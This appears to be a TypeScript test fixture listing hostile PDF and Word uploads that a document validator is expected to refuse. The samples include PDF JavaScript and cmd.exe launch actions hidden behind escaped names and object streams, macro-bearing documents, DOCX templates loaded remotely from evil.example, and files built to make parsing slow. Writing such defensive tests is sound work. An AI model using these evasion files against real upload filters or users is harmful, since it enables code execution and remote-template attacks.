import { limits } from '@ithaca/contracts/limits';
import { docxOf, oleOf, pdfOf } from '../sample-files.ts';
import { damaged, type HostileFile } from './hostile-file.ts';
import { objectStreamOf, objectStreamWith } from './pdf-objects.ts';

/** As many streams as fit, so that a search that isn't linear takes minutes. */
const fullOf = (part: string) => () => pdfOf(part.repeat(limits.uploadBytes / part.length - 100));

const action = '<</S/JavaScript/JS(app.alert(1))>>';
const activeContent = { refused: /script or other active content/ };
/** Files that take long to search. */
export const endless: HostileFile[] = [
  [
    'cv_document',
    'a PDF full of streams',
    'a.pdf',
    fullOf('>>stream\n'),
    { type: 'application/pdf' },
  ],
  ['cv_document', 'a PDF full of object streams', 'a.pdf', fullOf('/ObjStm>>stream\n'), damaged],
  ['cv_document', 'a PDF full of names', 'a.pdf', fullOf('/ObjStm/J#61vaScrip'), damaged],
  ['cv_document', 'a PDF full of dictionaries', 'a.pdf', fullOf('1 0 obj<</A'), damaged],
  ['cv_document', 'a PDF full of strings', 'a.pdf', fullOf('1 0 obj<</A('), damaged],
  ['cv_document', 'a PDF full of comments', 'a.pdf', fullOf('1 0 obj%'), damaged],
  [
    'cv_document',
    'a PDF full of dictionary keys',
    'a.pdf',
    fullOf('1 0 obj<</First>>stream\n'),
    damaged,
  ],
  [
    'cv_document',
    'a PDF full of small objects',
    'a.pdf',
    fullOf('1 0 obj<</A(b)>>endobj\n'),
    { type: 'application/pdf' },
  ],
];
const macros = { refused: /macros/ };
const loading = { refused: /loads parts of it from elsewhere/ };
const stored = { type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' };

/** A document with a relationship of its settings. */
const relatedTo = (
  target: string,
  type = 'attachedTemplate',
  name = 'word/_rels/settings.xml.rels',
) =>
  docxOf({
    name,
    content:
      '<?xml version="1.0" encoding="UTF-8"?><Relationships><Relationship Id="a>b" ' +
      `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ` +
      `Target='${target}' TargetMode="External"/></Relationships>`,
  });

/** Files that would run something when they are opened. */
export const active: HostileFile[] = [
  [
    'cv_document',
    'a PDF with JavaScript',
    'a.pdf',
    pdfOf(`4 0 obj\n${action}\nendobj\n`),
    activeContent,
  ],
  [
    'id_document',
    'an escaped name',
    'a.pdf',
    pdfOf('4 0 obj\n<</S/J#61va#53cript>>\nendobj\n'),
    activeContent,
  ],
  [
    'attachment',
    'compressed JavaScript',
    'a.pdf',
    pdfOf(objectStreamOf(`4 0 ${action}`)),
    activeContent,
  ],
  [
    'attachment',
    'an escaped stream',
    'a.pdf',
    pdfOf(objectStreamOf(`4 0 ${action}`, 'Obj#53tm')),
    activeContent,
  ],
  ...[
    ['a string', '/Type/ObjStm/Note(stream\nx)/N 1/First 4/Filter/FlateDecode'],
    [
      'a string with parentheses',
      '/Type/ObjStm/Note((\\()>>stream\n)/N 1/First 4/Filter/FlateDecode',
    ],
    ['a comment', '/Type/ObjStm%>>stream\n/N 1/First 4/Filter/FlateDecode'],
    ['a hexadecimal string', '/Note<stream>/N 1/First 4/Filter/FlateDecode'],
    ['a dictionary', '/Note<</First 4>>/N 1/First 4/Filter/FlateDecode'],
    ['another decoder', '/N 1/First 4/Filter[/FlateDecode/ASCIIHexDecode]'],
    ['a decoder elsewhere', '/N 1/First 4/Filter 5 0 R'],
    ['a predictor', '/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>'],
    ['a file elsewhere', '/N 1/First 4/F(a.bin)'],
  ].map(
    ([what, dictionary]): HostileFile => [
      'attachment',
      `compressed objects behind ${what}`,
      'a.pdf',
      pdfOf(objectStreamWith(`${dictionary}`, `4 0 ${action}`)),
      damaged,
    ],
  ),
  ...[
    ['no type', '/N 1/First 4/Filter/FlateDecode'],
    ['no type and an escaped key', '/N 1/Fir#73t 4/Filter[/FlateDecode]'],
  ].map(
    ([what, dictionary]): HostileFile => [
      'attachment',
      `compressed objects with ${what}`,
      'a.pdf',
      pdfOf(objectStreamWith(`${dictionary}`, `4 0 ${action}`)),
      activeContent,
    ],
  ),
  [
    'attachment',
    'compressed objects within a string',
    'a.pdf',
    pdfOf(
      '4 0 obj\n<</A(\n',
      objectStreamWith('/N 1/First 4/Filter/FlateDecode', `4 0 ${action}`),
      ')>>\nendobj\n',
    ),
    { refused: /damaged|active content/ },
  ],
  [
    'cv_document',
    'a PDF that starts a program',
    'a.pdf',
    pdfOf('<</S/Launch/F(cmd.exe)>>'),
    activeContent,
  ],
  ['cv_document', 'a PDF with a player', 'a.pdf', pdfOf('<</Subtype/RichMedia>>'), activeContent],
  [
    'cv_document',
    'a PDF with a password',
    'a.pdf',
    pdfOf('<</Encrypt 5 0 R>>'),
    { refused: /password/ },
  ],
  [
    'cv_document',
    'compressed objects that are broken',
    'a.pdf',
    pdfOf('<</Type/ObjStm>>\nstream\nxxx\nendstream'),
    damaged,
  ],
  [
    'cv_document',
    'a document with macros',
    'a.docx',
    docxOf({ name: 'word/vbaProject.bin', content: '' }),
    macros,
  ],
  [
    'cv_document',
    'a Word 97 document with macros',
    'a.doc',
    oleOf('WordDocument', '_VBA_PROJECT'),
    macros,
  ],
  [
    'cv_document',
    'a template on the web',
    'a.docx',
    relatedTo('https://evil.example/a.dotm'),
    loading,
  ],
  [
    'cv_document',
    'a template of a share',
    'a.docx',
    relatedTo('\\\\evil.example\\a\\a.dotm'),
    loading,
  ],
  [
    'cv_document',
    'a template by file://',
    'a.docx',
    relatedTo('file://evil.example/a.dotm'),
    loading,
  ],
  [
    'cv_document',
    'a picture that is loaded',
    'a.docx',
    relatedTo('http://evil.example/a', 'image'),
    loading,
  ],
  [
    'cv_document',
    'a template in other letters',
    'a.docx',
    relatedTo('&#x68;ttp&#58;//evil.example/a', 'attachedTemplate', 'WORD/_RELS/a.RELS'),
    loading,
  ],
  [
    'cv_document',
    'a list of relationships in UTF-16',
    'a.docx',
    docxOf({
      name: 'word/_rels/a.rels',
      content: Buffer.from('\ufeff<Relationships/>', 'utf16le'),
    }),
    damaged,
  ],
  [
    'cv_document',
    'a list of relationships with entities',
    'a.docx',
    docxOf({ name: '_rels/.rels', content: '<!DOCTYPE a [<!ENTITY e "External">]><a/>' }),
    damaged,
  ],
  [
    'cv_document',
    'a list of relationships that expands',
    'a.docx',
    docxOf({ name: '_rels/.rels', content: ' '.repeat(2 * 1024 * 1024) }),
    damaged,
  ],
  [
    'cv_document',
    'a list of relationships that is larger than it says',
    'a.docx',
    docxOf({ name: '_rels/.rels', content: ' '.repeat(100_000), claimedSize: 10 }),
    damaged,
  ],
  [
    'cv_document',
    'a document with a link',
    'a.docx',
    relatedTo('https://ana.test', 'hyperlink'),
    stored,
  ],
  [
    'cv_document',
    'an own template',
    'a.docx',
    relatedTo('file:///C:\\Users\\Ana\\CV.dotx'),
    stored,
  ],
  ['cv_document', 'the usual template', 'a.docx', relatedTo('Normal.dotm'), stored],
];
